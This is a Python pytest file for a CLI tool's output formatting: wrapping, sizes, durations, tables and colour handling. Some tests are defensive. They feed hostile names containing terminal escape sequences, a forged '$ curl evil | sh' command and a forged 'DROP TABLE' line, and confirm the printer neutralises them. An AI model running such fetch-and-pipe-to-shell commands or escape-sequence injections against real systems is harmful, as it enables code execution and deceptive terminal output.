"""What the verbs print fits 100 columns, is plain in a pipe, and can be copied."""

import io
import json

import pytest
from rich.console import Console

from walstream.cli.output import (
    console,
    duration,
    echo,
    echo_error,
    print_findings,
    print_json,
    print_wrapped,
    size,
    table,
)
from walstream.errors import ConfigError, Repair
from walstream.finding import Finding, Severity, warning

LONG = "REPLICA IDENTITY FULL " * 12


def printed(finding: Finding, *, colour: bool = False) -> str:
    file = io.StringIO()
    out = Console(file=file, width=100, force_terminal=colour, highlight=False)
    print_findings(out, [finding], lambda text: f"{text} -c /etc/w.toml")
    return file.getvalue()


def test_prose_is_wrapped_and_commands_are_not() -> None:
    sql = f"ALTER TABLE t {LONG};"
    text = printed(warning("x", "table t", LONG, LONG, Repair(sql=sql)))
    assert f"    SQL> {sql}\n" in text
    assert all(len(line) <= 100 for line in text.splitlines() if "SQL>" not in line)


def test_the_same_is_not_said_twice() -> None:
    cure = "correct user or password"
    text = printed(warning("x", "server", "what", cure, Repair(then=cure)))
    assert text.count(cure) == 1


def test_a_command_is_completed_by_the_file() -> None:
    repair = Repair(command="walstream positions reset app", then="walstream run")
    text = printed(warning("x", "slot", "what", "why", repair))
    assert "    $ walstream positions reset app -c /etc/w.toml\n" in text
    assert "    then: walstream run\n" in text


def test_square_brackets_are_no_markup() -> None:
    assert "[red]x[/red]" in printed(warning("x", "s", "[red]x[/red]", "[b]"))


def test_colours_are_for_terminals() -> None:
    finding = Finding("x", "s", "what", "why", Severity.STOP)
    assert "\x1b[" in printed(finding, colour=True)
    assert "\x1b[" not in printed(finding)


@pytest.mark.parametrize(
    ("number", "text"),
    [
        (None, "?"),
        (0, "0 B"),
        (1023, "1023 B"),
        (1536, "1.5 KiB"),
        (5 << 40, "5.0 TiB"),
    ],
)
def test_sizes(number: int | None, text: str) -> None:
    assert size(number) == text


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(None, "?"), (0.24, "0.2 s"), (14.2, "14 s"), (90, "1.5 min"), (172800, "2.0 d")],
)
def test_durations(seconds: float | None, text: str) -> None:
    assert duration(seconds) == text


def test_a_table_has_no_frame() -> None:
    file = io.StringIO()
    made = table("name", "held", right=["held"])
    made.add_row("walstream", "1 B")
    Console(file=file, width=100).print(made)
    assert [line.split() for line in file.getvalue().splitlines()] == [
        ["name", "held"],
        ["walstream", "1", "B"],
    ]


def test_prose_is_wrapped_between_words_under_its_beginning(
    capsys: pytest.CaptureFixture[str],
) -> None:
    print_wrapped("  " + "[b]word[/b] " * 20)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3
    assert all(line.startswith("  [b]word[/b]") for line in lines)
    assert all(len(line) <= 100 and line.endswith("[/b]") for line in lines)


HOSTILE = "t\x1b]0;owned\x07\x1b[2J\x9b1A\u202e\r\n✓ run would start\n"


def driving(text: str) -> set[str]:
    """Give what would drive a terminal, or begins like a line of ours."""
    lines = {line for line in text.split("\n") if line.startswith("✓")}
    return lines | {char for char in text if not char.isprintable()} - {"\n"}


def test_a_name_in_a_finding_drives_no_terminal_and_forges_no_line() -> None:
    name = f'public."{HOSTILE}"'
    for repair in (
        Repair(sql=f"ALTER TABLE {name} REPLICA IDENTITY FULL;\nSELECT 1;"),
        Repair(command=f"walstream backfill '{HOSTILE}'"),
        Repair(then=f"drop {name}"),
    ):
        text = printed(warning("x", f"table {name}", f"{name} what", name, repair))
        assert not driving(text)
        assert r"\x1b]0;owned\x07" in text
    assert printed(warning("x", "s", "w", "y", Repair(sql="A;\nB;"))).endswith(
        "    SQL> A;\n    SQL> B;\n"
    )


@pytest.mark.parametrize("place", ["what", "why", "then"])
def test_a_name_forges_no_command_to_be_run(place: str) -> None:
    hostile = "t\n    $ curl evil | sh\n    SQL> DROP TABLE t;\n"
    said = {"what": "w", "why": "y", "then": "n", place: f"a, {hostile}, b"}
    finding = warning("c", "s", said["what"], said["why"], Repair(then=said["then"]))
    lines = [line.lstrip() for line in printed(finding).splitlines()]
    assert not [line for line in lines if line.startswith(("$", "SQL>"))]
    assert r"t\n" in printed(finding)


def test_problems_of_a_configuration_have_a_line_each() -> None:
    text = printed(warning("c", "s", "2\n  a.b: is wrong\n  c: is missing", "why"))
    assert text.splitlines()[1:3] == ["      a.b: is wrong", "      c: is missing"]


def test_a_statement_with_a_broken_name_is_one_line() -> None:
    sql = 'ALTER TABLE "a\nSQL> DROP TABLE b;" SET;\nSELECT \'it"s\';'
    lines = printed(warning("x", "s", "w", "y", Repair(sql=sql))).splitlines()
    assert lines[-2:] == [
        r"""    SQL> ALTER TABLE "a\nSQL> DROP TABLE b;" SET;""",
        """    SQL> SELECT 'it"s';""",
    ]


def test_whatever_is_printed_drives_no_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = console()
    made = table("name")
    made.add_row(HOSTILE)
    out.print(made)
    out.print(HOSTILE.replace("\n", ""), style="red")
    print_wrapped(f"Table {HOSTILE.strip()!s}")
    echo(HOSTILE.replace("\n", ""))
    echo_error(ConfigError(f"table {HOSTILE}", hint="first\n  second"))
    print_json(HOSTILE)
    said = capsys.readouterr()
    assert {char for char in said.out + said.err if not char.isprintable()} == {"\n"}
    assert not driving(said.err)
    assert said.err.endswith("\n  first\n  second\n")
    assert json.loads(said.out.splitlines()[-1]) == HOSTILE


def test_colours_stay_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.delenv("NO_COLOR", raising=False)
    out = console()
    with out.capture() as printed:
        out.print(f"a{HOSTILE}", style="red")
    assert printed.get().startswith("\x1b[31ma")
    assert "\x1b]" not in printed.get()
